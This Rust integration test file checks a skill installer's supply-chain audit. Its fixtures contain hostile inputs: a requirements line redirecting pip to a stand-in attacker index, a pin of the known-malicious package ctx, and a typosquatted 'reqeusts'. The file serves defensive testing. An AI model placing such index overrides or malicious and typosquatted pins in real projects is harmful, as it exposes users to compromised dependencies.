//! The supply-chain audit at install, through the binary: requirement-file options refused
//! unless the operator allows them, advisories imported from OSV records and matched, a known
//! vulnerable pin needing the approver's explicit acceptance, a malicious package refused.
//! Judged from the host: the registry's versions and the state `show` reads from it.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use super::lab::{Lab, approve_on_a_terminal};

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
}

/// The OSV fixture records of the supply crate.
fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../supply/tests/fixtures/osv")
}

/// Writes `skills/NAME` with `requirements.txt` and installs it; returns install's output.
fn install_with_requirements(lab: &Lab, name: &str, requirements: &str) -> Output {
    let dir = lab.path("skills").join(name);
    fs::create_dir_all(&dir).expect("mkdir");
    fs::write(
        dir.join("SKILL.md"),
        format!("---\nname: {name}\ndescription: Dependencies test.\nmetadata:\n  skillcell.entry: main.py\n---\nBody.\n"),
    )
    .expect("SKILL.md");
    fs::write(dir.join("main.py"), "print('hi')\n").expect("main");
    fs::write(dir.join("requirements.txt"), requirements).expect("requirements");
    lab.cmd(&["install", "--json", dir.to_str().expect("utf8")])
        .output()
        .expect("install")
}

fn versions(lab: &Lab, name: &str) -> i64 {
    let db = lab.home.path().join("registry/registry.db");
    if !db.exists() {
        return 0;
    }
    rusqlite::Connection::open(&db)
        .expect("registry")
        .query_row(
            "SELECT COUNT(*) FROM versions WHERE skill = ?1",
            [name],
            |r| r.get(0),
        )
        .expect("count")
}

fn rules(out: &Output, key: &str) -> Vec<String> {
    let v = json(out);
    let list = if key == "error" {
        &v["error"]["detail"]
    } else {
        &v["findings"]
    };
    list.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|f| {
                    Some(format!(
                        "{}:{}",
                        f["rule"].as_str()?,
                        f["severity"].as_str()?
                    ))
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn an_index_override_is_refused_unless_the_operator_allows_it() {
    let lab = Lab::new();
    let reqs = "--index-url https://pypi.evil.example/simple\nrequests==2.31.0\n";
    let out = install_with_requirements(&lab, "index-override", reqs);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert_eq!(json(&out)["error"]["kind"], "inadmissible", "{out:?}");
    assert!(
        rules(&out, "error").contains(&"dep-pip-index-override:critical".to_owned()),
        "{out:?}"
    );
    assert_eq!(versions(&lab, "index-override"), 0);
    // Positive control: the operator allows pip options; the same folder installs, pending,
    // with the option still reported.
    let set = lab
        .cmd(&["policy", "set", "allow-pip-options", "yes"])
        .output()
        .expect("policy");
    assert!(set.status.success(), "{set:?}");
    let out = install_with_requirements(&lab, "index-override", reqs);
    assert!(out.status.success(), "{out:?}");
    assert!(
        rules(&out, "findings").contains(&"dep-pip-index-override:info".to_owned()),
        "{out:?}"
    );
    assert_eq!(versions(&lab, "index-override"), 1);
}

#[test]
fn advisories_decide_what_installs_and_what_the_approver_must_accept() {
    let lab = Lab::new();
    // Without a database the audit says so.
    let out = install_with_requirements(&lab, "pinned-old", "requests==2.30.0\n");
    assert!(out.status.success(), "{out:?}");
    assert!(
        rules(&out, "findings").contains(&"dep-no-advisories:info".to_owned()),
        "{out:?}"
    );

    let out = lab
        .cmd(&[
            "advisories",
            "import",
            "--json",
            fixtures().to_str().expect("utf8"),
        ])
        .output()
        .expect("import");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(json(&out)["records"], 7, "{out:?}");

    // A pin the advisory covers: installed pending with a high finding the approver must
    // accept by rule id.
    let out = install_with_requirements(&lab, "pinned-old", "requests==2.30.0 # old\n");
    assert!(out.status.success(), "{out:?}");
    assert!(
        rules(&out, "findings").contains(&"dep-vulnerable:high".to_owned()),
        "{out:?}"
    );
    let refused = approve_on_a_terminal(lab.home.path(), "pinned-old", &[]);
    assert!(!refused.status.success(), "{refused:?}");
    let show = lab
        .cmd(&["show", "pinned-old", "--json"])
        .output()
        .expect("show");
    assert_eq!(json(&show)["versions"][0]["state"], "pending");
    let accepted = approve_on_a_terminal(
        lab.home.path(),
        "pinned-old",
        &["--accept-risk", "dep-vulnerable"],
    );
    assert!(accepted.status.success(), "{accepted:?}");

    // Positive control: the fixed version has no such finding.
    let out = install_with_requirements(&lab, "pinned-new", "requests==2.31.0\n");
    assert!(out.status.success(), "{out:?}");
    assert!(
        !rules(&out, "findings")
            .iter()
            .any(|r| r.starts_with("dep-vulnerable")),
        "{out:?}"
    );

    // A package the database knows as malicious: critical, refused, nothing recorded.
    let out = install_with_requirements(&lab, "malicious-dep", "ctx==0.2.6\n");
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert!(
        rules(&out, "error").contains(&"dep-vulnerable:critical".to_owned()),
        "{out:?}"
    );
    assert_eq!(versions(&lab, "malicious-dep"), 0);

    // A typosquat of a popular name is a high finding.
    let out = install_with_requirements(&lab, "squatted", "reqeusts==2.31.0\n");
    assert!(out.status.success(), "{out:?}");
    assert!(
        rules(&out, "findings").contains(&"dep-typosquat:high".to_owned()),
        "{out:?}"
    );
}
